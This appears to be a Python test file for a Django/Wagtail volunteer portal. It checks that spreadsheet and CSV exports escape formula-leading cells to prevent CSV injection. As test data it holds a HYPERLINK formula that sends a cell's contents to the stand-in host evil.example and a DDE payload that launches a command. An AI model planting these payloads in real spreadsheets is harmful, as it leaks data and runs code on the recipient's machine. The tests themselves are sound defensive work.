"""Exported text cells never become formulas (OWASP CSV injection): command, admin, Wagtail reports."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Page

from portal import roles
from portal.spreadsheets import csv_text, unescape_csv_text
from volunteers.factories import ServiceRecordFactory, VolunteerFactory, VolunteerTeamFactory
from volunteers.models import ServiceRecord

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
RISKY_ACTIVITIES = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PLAIN = "楼道清扫"


@pytest.fixture
def risky(site):
    team = VolunteerTeamFactory(name="=cmd|' /C calc'!A0")
    volunteer = VolunteerFactory(number="-ZY001", real_name="张秀英", teams=[team])
    for day, activity in enumerate([*RISKY_ACTIVITIES, PLAIN], start=1):
        ServiceRecordFactory(
            volunteer=volunteer,
            date=datetime.date(2025, 5, day),
            hours=Decimal("2.5"),
            activity=activity,
            team=team,
        )
    return volunteer


def export(tmp_path, ext):
    path = tmp_path / f"hours.{ext}"
    call_command("export_service_hours", str(path), stdout=StringIO())
    return path.read_bytes()


def check_xlsx(data):
    # No formula element anywhere in the sheet.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    rows = list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2))
    assert len(rows) == len(RISKY_ACTIVITIES) + 1
    for row, activity in zip(rows, [*RISKY_ACTIVITIES, PLAIN], strict=True):
        number, name, date, hours, activity_cell, team = row
        # XML keeps no bare carriage return: a CR-led activity reads back with a line feed.
        assert (activity_cell.data_type, activity_cell.value) == ("s", activity.replace("\r", "\n"))
        assert (team.data_type, team.value) == ("s", "=cmd|' /C calc'!A0")
        assert (number.data_type, number.value) == ("s", "-ZY001")
        assert team.quotePrefix and number.quotePrefix
        assert activity_cell.quotePrefix == (activity != PLAIN)
        assert not name.quotePrefix
        # Numbers and dates stay typed, not text.
        assert hours.data_type == "n" and hours.value == 2.5
        assert date.is_date


def check_csv(data):
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[4] for r in rows] == ["'" + a for a in RISKY_ACTIVITIES] + [PLAIN]
    for row in rows:
        assert row[0] == "'-ZY001"
        assert row[1] == "张秀英"
        assert row[3] == "2.5"  # a number column is not touched
        assert row[5] == "'=cmd|' /C calc'!A0"
        assert not any(cell[:1] in "=+-@\t\r" for cell in row if cell)


def test_command_xlsx_writes_formulas_as_text(tmp_path, risky):
    check_xlsx(export(tmp_path, "xlsx"))


def test_command_csv_prefixes_an_apostrophe(tmp_path, risky):
    check_csv(export(tmp_path, "csv"))


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_round_trip_of_escaped_cells_finds_every_row_again(tmp_path, risky, ext):
    path = tmp_path / f"hours.{ext}"
    path.write_bytes(export(tmp_path, ext))
    err = StringIO()
    with pytest.raises(CommandError):
        call_command("import_service_hours", str(path), stdout=StringIO(), stderr=err)
    lines = err.getvalue().splitlines()
    # Every row is recognised as the record it came from: the apostrophe is not part of the data.
    # (XLSX cells are read trimmed, so there the tab- and CR-led activities look new.)
    duplicates = [line for line in lines if "重复：与已有服务记录相同" in line]
    assert len(duplicates) == len(RISKY_ACTIVITIES) + 1 - (2 if ext == "xlsx" else 0)
    assert ServiceRecord.objects.count() == len(RISKY_ACTIVITIES) + 1


def test_illegal_control_characters_do_not_break_the_xlsx(tmp_path, site):
    ServiceRecordFactory(volunteer=VolunteerFactory(), activity="读报\x07给老人听")
    data = export(tmp_path, "xlsx")
    cell = load_workbook(io.BytesIO(data)).worksheets[0]["E2"]
    assert cell.value == "读报给老人听"


def test_csv_text_rule():
    for value in ("=1", "+1", "-1", "@a", "\t1", "\r1"):
        assert csv_text(value) == "'" + value
        assert unescape_csv_text(csv_text(value)) == value
    for value in ("", "1", "张三", "a=b", "'quoted", " =1"):
        assert csv_text(value) == value
        assert unescape_csv_text(value) == value


@pytest.fixture
def staff_client(client, staff_user, password):
    client.login(username=staff_user.username, password=password)
    return client


def test_admin_export_downloads_safe_files(staff_client, risky, site):
    url = reverse("volunteers_tools:export")
    response = staff_client.get(url, {"site": site.pk, "format": "xlsx"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    check_xlsx(response.content)
    response = staff_client.get(url, {"site": site.pk, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    check_csv(response.content)
    # The import page offers the download.
    html = staff_client.get(reverse("volunteers_tools:import")).content.decode()
    assert url in html and "导出 XLSX" in html


def test_admin_export_odd_site_is_not_found(staff_client, risky):
    for value in ("", "x", "²", "9" * 30):
        assert staff_client.get(reverse("volunteers_tools:export"), {"site": value}).status_code == 404


@pytest.mark.parametrize("role", [roles.RESIDENT_EDITORS, roles.COMMITTEE])
def test_admin_export_is_for_staff_only(client, make_user, password, risky, site, role):
    client.login(username=make_user(role).username, password=password)
    response = client.get(reverse("volunteers_tools:export"), {"site": site.pk, "format": "csv"})
    assert response.status_code in (302, 403)
    assert "张秀英" not in response.content.decode("utf-8", "replace")


def test_wagtail_site_history_csv_escapes_page_titles(client, admin_user_role, password, home_page):
    page = home_page.add_child(instance=Page(title=HYPERLINK, slug="evil", live=True))
    page.save_revision(user=admin_user_role, log_action=True).publish(user=admin_user_role)
    client.login(username=admin_user_role.username, password=password)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    labels = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in labels
    assert HYPERLINK not in labels
